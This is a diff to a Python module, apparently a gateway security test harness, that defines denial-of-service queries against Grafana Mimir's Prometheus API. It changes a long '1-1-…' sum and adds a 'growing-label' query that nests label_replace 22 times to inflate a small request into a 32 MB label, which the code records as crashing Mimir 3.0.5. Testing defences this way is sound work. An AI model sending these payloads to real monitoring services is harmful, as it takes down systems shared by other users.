@@ -10,6 +10,7 @@ import socket
 import time
 from collections.abc import Callable, Iterable, Iterator
 from contextlib import ExitStack
+from urllib.parse import quote
 
 import cramjam
 
@@ -109,8 +110,8 @@ _TERMS = 5_000
 
 
 def _endless_sum(attack_run: AttackRun) -> Iterator[WireRequest]:
-    """1+1+…: Mimir's time for it grows faster than its length."""
-    form = b"query=1" + b"%2B1" * _TERMS
+    """1-1-…: Mimir's time for it grows faster than its length."""
+    form = b"query=1" + b"-1" * _TERMS
     now = int(time.time())
     window = b"&start=%d&end=%d&step=1" % (now - 1, now)
     for path, body in (("query", form), ("query_range", form + window)):
@@ -134,6 +135,22 @@ def _unread_sum(attack_run: AttackRun) -> Iterable[str]:
         answer = send(http1(attack_run.gateway, method, target, [attack_run.own, form], body))
         if not answer.statuses or answer.accepted:
             yield f"{method}: it is being worked on: {answer.describe()}"
+
+
+_DOUBLINGS = 22
+
+
+def _growing_label(attack_run: AttackRun) -> Iterator[WireRequest]:
+    """A label of eight letters that is doubled 22 times: 32 MB, in a question of a kilobyte."""
+    grown = 'label_replace(vector(1), "a", "xxxxxxxx", "", "")'
+    for _ in range(_DOUBLINGS):
+        grown = f'label_replace({grown}, "a", "$1$1", "a", "(.*)")'
+    yield http1(
+        attack_run.gateway,
+        "GET",
+        f"/prometheus/api/v1/query?query={quote(f'count({grown})')}",
+        [attack_run.own],
+    )
 
 
 def _deed(
@@ -176,6 +193,13 @@ EXHAUSTION: tuple[Attack, ...] = (
         does=f"asks for the sum of {_TERMS} ones",
         source="16,000 terms: no answer within a minute, and 2 GB of Mimir 3.0.5 (observed)",
         sends=_endless_sum,
+        ineffective_because=_BACKENDS_LIMIT,
+    ),
+    Attack(
+        name="growing-label",
+        does="asks for a label that is made of itself, again and again",
+        source="Mimir 3.0.5 ends at once, for everybody (observed)",
+        sends=_growing_label,
         ineffective_because=_BACKENDS_LIMIT,
     ),
     _deed(
